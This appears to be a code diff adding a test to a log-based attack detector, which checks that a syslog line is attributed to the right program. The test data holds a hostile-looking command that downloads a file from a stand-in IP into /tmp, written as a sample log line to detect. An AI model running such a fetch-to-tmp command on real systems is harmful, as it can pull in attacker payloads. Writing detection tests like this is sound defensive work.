@@ -3,6 +3,7 @@ import { test } from 'node:test'
 import fc from 'fast-check'
 import { draftsOf } from '../../../test/logs.ts'
 import { applicationLog } from './application-log.ts'
+import { syslog } from './syslog.ts'
 
 const told = (...lines: string[]) =>
   draftsOf(applicationLog, '/opt/app/logs/app.log', ...lines).map(d =>
@@ -105,4 +106,11 @@ test('property: any text, no throw', () => {
   fc.assert(
     fc.property(fc.array(piece, { maxLength: 8 }), pieces => void [...applicationLog.open({ path: '/x', user: '' }).line(pieces.join(''))]),
   )
+})
+
+test('the same by the journal or syslog, in the name of the program', () => {
+  const line = 'Nov 22 01:02:03 web1 node[77]: Error: Command failed: wget http://198.51.100.5/a -O /tmp/a'
+  const [one, ...rest] = draftsOf(syslog, '/var/log/syslog', line, line.replace('node[', 'cron['))
+  assert.deepEqual(rest, [])
+  assert.deepEqual([one?.attack, one?.program, one?.pid], ['node-command', 'node', 77])
 })
